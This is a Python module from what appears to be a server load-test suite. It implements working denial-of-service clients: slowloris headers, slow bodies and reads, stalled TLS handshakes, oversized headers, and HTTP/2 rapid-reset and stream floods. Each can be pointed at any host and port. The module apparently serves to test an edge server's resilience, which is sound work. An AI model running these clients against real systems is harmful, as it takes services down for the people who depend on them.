"""`python -m tests.load.hostile KIND --host A --port N`: clients that mean harm, till stdin closes.

Each kind opens what it is told to and keeps it open as long as it is let; what the edge closes is
opened again. Load goes only to what a test has made.
"""

import argparse
import asyncio
import contextlib
import socket
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable, Mapping

from tests.load.http2_frames import PREFACE, RST_STREAM, SETTINGS, frame, request

NAME = "shop.test"
PACE = 2.0  # seconds from a byte to the next
AT_ONCE = 200  # connections that are being opened
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def head(method: str, path: str, *fields: str) -> bytes:
    return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {NAME}", *fields, "", "")).encode()


async def slow_heads(host: str, port: int) -> None:
    """Send a head a letter at a time, which never ends."""
    _, writer = await asyncio.open_connection(host, port)
    await _trickle(writer, head("GET", "/").removesuffix(b"\r\n"), b"x")


async def silent(host: str, port: int) -> None:
    """Connect, and say nothing."""
    reader, _ = await asyncio.open_connection(host, port)
    await reader.read()


async def kept(host: str, port: int) -> None:
    """Ask once, and keep the connection without a word."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(head("GET", "/_edge/up"))
    while await reader.read(1000):
        pass


async def slow_bodies(host: str, port: int) -> None:
    """Announce a megabyte, and send a byte now and then."""
    _, writer = await asyncio.open_connection(host, port)
    await _trickle(writer, head("POST", "/", "Content-Length: 1000000"), b"x")


async def slow_readers(host: str, port: int) -> None:
    """Ask for much, and read nothing of it."""
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.setblocking(False)
    with contextlib.closing(line):
        loop = asyncio.get_running_loop()
        await loop.sock_connect(line, (host, port))
        await loop.sock_sendall(line, head("GET", "/large"))
        await asyncio.sleep(600)


async def half_handshakes(host: str, port: int) -> None:
    """Begin a TLS handshake, and leave it there."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01")
    await reader.read()


async def large_heads(host: str, port: int) -> None:
    """Send heads that are larger than is taken, as fast as they are refused."""
    reader, writer = await asyncio.open_connection(host, port)
    with contextlib.closing(writer):
        writer.write(head("GET", "/", *(f"X-{n}: {'x' * 8000}" for n in range(40))))
        await reader.read()
    await asyncio.sleep(0.05)


async def rapid_resets(host: str, port: int) -> None:
    """Begin HTTP/2 requests and take each back at once."""
    reader, writer = await _http2(host, port)
    with contextlib.closing(writer):
        reading = asyncio.create_task(reader.read(1 << 24))
        for stream in range(1, 200_001, 2):
            writer.write(request(stream, NAME) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            if stream % 200 == 1:
                await writer.drain()
                if reading.done():
                    return


async def many_streams(host: str, port: int) -> None:
    """Begin thousands of HTTP/2 requests that take long, on one connection."""
    reader, writer = await _http2(host, port)
    with contextlib.closing(writer):
        for stream in range(1, 10_001, 2):
            writer.write(request(stream, NAME, b"/slow-20"))
        await writer.drain()
        while await reader.read(1 << 16):
            pass


KINDS: Mapping[str, Callable[[str, int], Awaitable[None]]] = {
    each.__name__: each
    for each in (
        *(slow_heads, silent, kept, slow_bodies, slow_readers, half_handshakes, large_heads),
        *(rapid_resets, many_streams),
    )
}


async def _trickle(writer: asyncio.StreamWriter, first: bytes, rest: bytes) -> None:
    with contextlib.closing(writer):
        writer.write(first)
        while not writer.is_closing():
            await writer.drain()
            await asyncio.sleep(PACE)
            writer.write(rest)


async def _http2(host: str, port: int) -> Streams:
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    streams = await asyncio.open_connection(host, port, ssl=tls, server_hostname=NAME)
    streams[1].write(PREFACE + frame(SETTINGS, 0, 0, b""))
    return streams


async def attack(kind: str, host: str, port: int, count: int) -> None:
    """Keep `count` of a kind going."""
    opening = asyncio.Semaphore(AT_ONCE)

    async def one() -> None:
        while True:
            async with opening:
                await asyncio.sleep(0.01)
            with contextlib.suppress(OSError, EOFError):
                await KINDS[kind](host, port)
            await asyncio.sleep(0.1)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(one())
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
        raise SystemExit(0)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=1000)
    given = parser.parse_args()
    asyncio.run(attack(given.kind, given.host, given.port, given.count))


if __name__ == "__main__":
    main()
